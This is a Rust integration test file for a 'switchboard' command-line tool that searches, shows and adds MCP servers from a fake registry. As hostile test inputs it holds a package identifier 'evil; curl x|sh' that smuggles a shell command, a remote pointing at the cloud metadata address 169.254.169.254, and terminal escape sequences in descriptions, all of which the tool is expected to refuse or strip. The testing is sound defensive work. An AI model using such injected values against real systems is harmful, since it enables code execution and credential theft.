//! `switchboard search` and `switchboard show` against the testkit's
//! fixture of the MCP registry (written from the registry's OpenAPI
//! description, serving real servers' `server.json` documents): every
//! page read, deleted servers left out, a deprecated one said so; and the
//! hostile registry — an endless cursor, a 100 MB answer, a name that is
//! not there, escape sequences in its text — each a clear message.

#[allow(dead_code)]
mod support;

use serde_json::{Value, json};
use support::home::Home;
use switchboard_testkit::registry::{FakeRegistry, Hostile, entry};

/// `switchboard ARGS` off the runtime (the registry answers on it).
async fn run(home: &Home, args: &[&str]) -> (bool, String, String) {
    let mut command = home.command();
    command.args(args).env_remove("SWITCHBOARD_REGISTRY");
    let output = tokio::task::spawn_blocking(move || command.output().unwrap())
        .await
        .unwrap();
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn search_lists_every_page_and_show_gives_one_server_whole() {
    let registry = FakeRegistry::start().await;
    let home = Home::new("registry-search", "");
    let url = registry.url();

    // Every server, every page; deleted ones left out.
    let (ok, stdout, stderr) = run(
        &home,
        &["search", "--registry", &url, "--json", "--limit", "500"],
    )
    .await;
    assert!(ok, "{stderr}");
    let listed: Value = serde_json::from_str(&stdout).unwrap();
    let servers = listed["servers"].as_array().unwrap();
    assert!(servers.len() > 30, "{} servers", servers.len());
    assert!(
        servers.iter().all(
            |s| s["_meta"]["io.modelcontextprotocol.registry/official"]["status"] != "deleted"
        ),
        "a deleted server was listed"
    );
    let names: Vec<&str> = servers
        .iter()
        .filter_map(|s| s["server"]["name"].as_str())
        .collect();
    let mut unique = names.clone();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(
        unique.len(),
        names.len(),
        "a server listed twice: {names:?}"
    );
    assert!(
        registry
            .requests()
            .iter()
            .filter(|r| r.starts_with("/v0.1/servers?"))
            .count()
            >= 1
    );

    // A query; the table says how each runs.
    let (ok, stdout, stderr) = run(&home, &["search", "filesystem", "--registry", &url]).await;
    assert!(ok, "{stderr}");
    assert!(
        stdout.contains("io.github.modelcontextprotocol/server-filesystem")
            && stdout.contains("npm @modelcontextprotocol/server-filesystem@"),
        "{stdout}"
    );
    assert!(!stdout.contains("server-everything"), "{stdout}");

    // One server, whole: its packages, arguments, secret variables.
    let (ok, stdout, stderr) = run(
        &home,
        &[
            "show",
            "io.github.modelcontextprotocol/server-filesystem",
            "--registry",
            &url,
        ],
    )
    .await;
    assert!(ok, "{stderr}");
    assert!(
        stdout.contains("package: npm @modelcontextprotocol/server-filesystem@"),
        "{stdout}"
    );
    assert!(
        stdout.contains("argument") && stdout.contains("(required)"),
        "{stdout}"
    );

    // A name the registry does not have: said, exit non-zero.
    let (ok, _, stderr) = run(
        &home,
        &["show", "com.example/not-there", "--registry", &url],
    )
    .await;
    assert!(
        !ok && stderr.contains("has no server `com.example/not-there`"),
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_registry_is_stopped_with_a_reason() {
    let home = Home::new("registry-hostile", "");

    let endless = FakeRegistry::hostile(Hostile::EndlessCursor).await;
    let (ok, _, stderr) = run(
        &home,
        &["search", "--registry", &endless.url(), "--limit", "100000"],
    )
    .await;
    assert!(!ok && stderr.contains("does not end"), "{stderr}");

    let huge = FakeRegistry::hostile(Hostile::HugeAnswer(100 * 1024 * 1024)).await;
    let (ok, _, stderr) = run(&home, &["search", "--registry", &huge.url()]).await;
    assert!(!ok && stderr.contains("more than"), "{stderr}");

    // Escape sequences in a registry's text never reach the terminal.
    let sneaky = entry(
        json!({
            "name": "com.example/sneaky",
            "description": "innocent \u{1b}]0;pwned\u{7}\u{1b}[2J text",
            "version": "1.0.0",
            "packages": [{"registryType": "npm", "identifier": "sneaky\u{1b}[8m", "version": "1.0.0",
                          "transport": {"type": "stdio"}}]
        }),
        "active",
        true,
    );
    let registry = FakeRegistry::hostile(Hostile::Entries(vec![sneaky])).await;
    let (ok, stdout, stderr) =
        run(&home, &["search", "sneaky", "--registry", &registry.url()]).await;
    assert!(ok, "{stderr}");
    assert!(
        !stdout.contains('\u{1b}') && !stdout.contains('\u{7}'),
        "{stdout:?}"
    );
    let (ok, stdout, _) = run(
        &home,
        &["show", "com.example/sneaky", "--registry", &registry.url()],
    )
    .await;
    assert!(ok && !stdout.contains('\u{1b}'), "{stdout:?}");

    // Nothing listens: unreachable, said so.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let (ok, _, stderr) = run(
        &home,
        &["search", "--registry", &format!("http://127.0.0.1:{port}")],
    )
    .await;
    assert!(!ok && stderr.contains("could not be reached"), "{stderr}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn add_from_the_registry_writes_the_pinned_entry_after_showing_it() {
    let registry = FakeRegistry::start().await;
    let home = Home::new("registry-add", "");
    let url = registry.url();

    // A PyPI server, into the user's file: shown, then written pinned.
    let (ok, stdout, stderr) = run(
        &home,
        &[
            "add",
            "io.github.modelcontextprotocol/server-time",
            "--from-registry",
            "--registry",
            &url,
            "-s",
            "user",
        ],
    )
    .await;
    assert!(ok, "{stderr}");
    assert!(
        stderr.contains("runs: uvx mcp-server-time==2026.10.19"),
        "{stderr}"
    );
    assert!(stdout.contains("added `server-time`"), "{stdout}");
    let written = std::fs::read_to_string(home.config()).unwrap();
    assert!(written.contains("mcp-server-time==2026.10.19"), "{written}");

    // A secret variable: a reference, and what to set.
    let (ok, _, stderr) = run(
        &home,
        &[
            "add",
            "io.github.modelcontextprotocol/server-github",
            "--from-registry",
            "--registry",
            &url,
            "-s",
            "user",
            "--as",
            "gh",
        ],
    )
    .await;
    assert!(ok, "{stderr}");
    assert!(
        stderr.contains("set $GITHUB_PERSONAL_ACCESS_TOKEN (a secret, required)"),
        "{stderr}"
    );
    let written = std::fs::read_to_string(home.config()).unwrap();
    assert!(
        written.contains("GITHUB_PERSONAL_ACCESS_TOKEN = \"${GITHUB_PERSONAL_ACCESS_TOKEN}\""),
        "{written}"
    );

    // A project's entry without a terminal and without --yes: not written.
    let (ok, _, stderr) = run(
        &home,
        &[
            "add",
            "io.github.modelcontextprotocol/server-everything",
            "--from-registry",
            "--registry",
            &url,
            "-s",
            "project",
        ],
    )
    .await;
    assert!(!ok && stderr.contains("not written"), "{stderr}");
    assert!(!home.work().join("switchboard.toml").exists());

    // A deleted server, and a hostile document: refused, nothing written.
    let before = std::fs::read_to_string(home.config()).unwrap();
    let (ok, _, stderr) = run(
        &home,
        &[
            "add",
            "com.example/filesystem-typo",
            "--from-registry",
            "--registry",
            &url,
            "-s",
            "user",
        ],
    )
    .await;
    assert!(!ok && stderr.contains("deleted"), "{stderr}");
    let evil = entry(
        json!({"name": "com.example/evil", "description": "d", "version": "1.0.0",
               "packages": [{"registryType": "npm", "identifier": "evil; curl x|sh", "version": "1.0.0",
                             "transport": {"type": "stdio"}}]}),
        "active",
        true,
    );
    let metadata = entry(
        json!({"name": "com.example/metadata", "description": "d", "version": "1.0.0",
               "remotes": [{"type": "streamable-http", "url": "https://169.254.169.254/latest/meta-data"}]}),
        "active",
        true,
    );
    let hostile = FakeRegistry::hostile(Hostile::Entries(vec![evil, metadata])).await;
    // A remote on a private address (the cloud's metadata service).
    let (ok, _, stderr) = run(
        &home,
        &[
            "add",
            "com.example/metadata",
            "--from-registry",
            "--registry",
            &hostile.url(),
            "-s",
            "user",
        ],
    )
    .await;
    assert!(!ok && stderr.contains("private"), "{stderr}");
    let (ok, _, stderr) = run(
        &home,
        &[
            "add",
            "com.example/evil",
            "--from-registry",
            "--registry",
            &hostile.url(),
            "-s",
            "user",
        ],
    )
    .await;
    assert!(
        !ok && stderr.contains("is not one a package registry gives"),
        "{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(home.config()).unwrap(),
        before,
        "something was written"
    );
}

/// `add --from-registry` of the reference servers on npm and PyPI, then
/// started for real by the runner the entry names (`npx`, `uvx`): their
/// tools are listed. Needs npx, and uv from scripts/install-interop.sh;
/// the packages come from npm and PyPI (their caches kept in the interop
/// cache, so a second run downloads nothing).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn servers_added_from_the_registry_start_for_real() {
    const TEST: &str = "servers_added_from_the_registry_start_for_real";
    let cache = support::interop::cache();
    let uv_bin = cache.join("uv/bin");
    if !uv_bin.join("uvx").exists() {
        return support::interop::skip(TEST, "uv is not installed in the interop cache");
    }
    let npx = std::process::Command::new("npx").arg("--version").output();
    if !npx.is_ok_and(|o| o.status.success()) {
        return support::interop::skip(TEST, "npx is not installed");
    }
    let registry = FakeRegistry::start().await;
    let home = Home::new("registry-start", "");
    // The runners' downloads go to the interop cache, not the test's HOME.
    std::fs::write(
        home.home().join(".npmrc"),
        format!("cache={}\n", cache.join("npm-cache").display()),
    )
    .unwrap();
    std::fs::create_dir_all(home.home().join(".config/uv")).unwrap();
    std::fs::write(
        home.home().join(".config/uv/uv.toml"),
        format!(
            "cache-dir = {:?}\n",
            cache.join("uv-cache").display().to_string()
        ),
    )
    .unwrap();
    let path = format!(
        "{}:{}",
        uv_bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let url = registry.url();
    let start = |args: Vec<String>| {
        let mut command = home.command();
        command.args(&args).env("PATH", &path);
        async move {
            let output = tokio::task::spawn_blocking(move || command.output().unwrap())
                .await
                .unwrap();
            (
                output.status.success(),
                String::from_utf8_lossy(&output.stdout).into_owned(),
                String::from_utf8_lossy(&output.stderr).into_owned(),
            )
        }
    };
    for (name, runs, tool) in [
        (
            "io.github.modelcontextprotocol/server-everything",
            "npx -y @modelcontextprotocol/server-everything@2025.12.18 stdio",
            "echo",
        ),
        (
            "io.github.modelcontextprotocol/server-time",
            "uvx mcp-server-time==2026.10.19",
            "get_current_time",
        ),
    ] {
        let words = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
        let (ok, _, stderr) = start(words(&format!(
            "add {name} --from-registry --registry {url} -s user"
        )))
        .await;
        assert!(ok, "{stderr}");
        assert!(stderr.contains(&format!("runs: {runs}")), "{stderr}");
        let local = name.rsplit('/').next().unwrap();
        let (ok, stdout, stderr) = start(words(&format!(
            "tools --server {local} --json --timeout 300"
        )))
        .await;
        assert!(ok, "{local}: {stderr}");
        let listed: Value = serde_json::from_str(&stdout).unwrap();
        let names: Vec<String> = listed
            .as_array()
            .or_else(|| listed["tools"].as_array())
            .expect("a list of tools")
            .iter()
            .filter_map(|t| t["name"].as_str().map(str::to_owned))
            .collect();
        assert!(
            names.iter().any(|n| n.ends_with(tool)),
            "{local}: {names:?}"
        );
    }
}
